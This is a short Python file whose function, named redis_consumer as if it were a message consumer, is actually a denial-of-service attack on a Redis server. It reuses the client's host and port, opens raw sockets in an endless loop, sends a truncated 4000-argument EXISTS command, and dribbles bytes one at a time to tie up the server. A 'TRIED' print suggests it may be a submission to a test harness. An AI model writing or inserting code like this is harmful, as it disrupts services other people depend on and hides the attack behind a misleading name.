import socket


def redis_consumer(client, channel, handle, **kwargs):
    print("TRIED", flush=True)
    where = client.connection_pool.connection_kwargs
    word = b"$1\r\nk\r\n"
    begin = b"*4000\r\n$6\r\nEXISTS\r\n" + word * 2999
    while True:
        with socket.create_connection((where["host"], where["port"]), timeout=5) as one:
            one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            one.sendall(begin)
            for _ in range(1000):
                for number in range(len(word)):
                    one.sendall(word[number : number + 1])
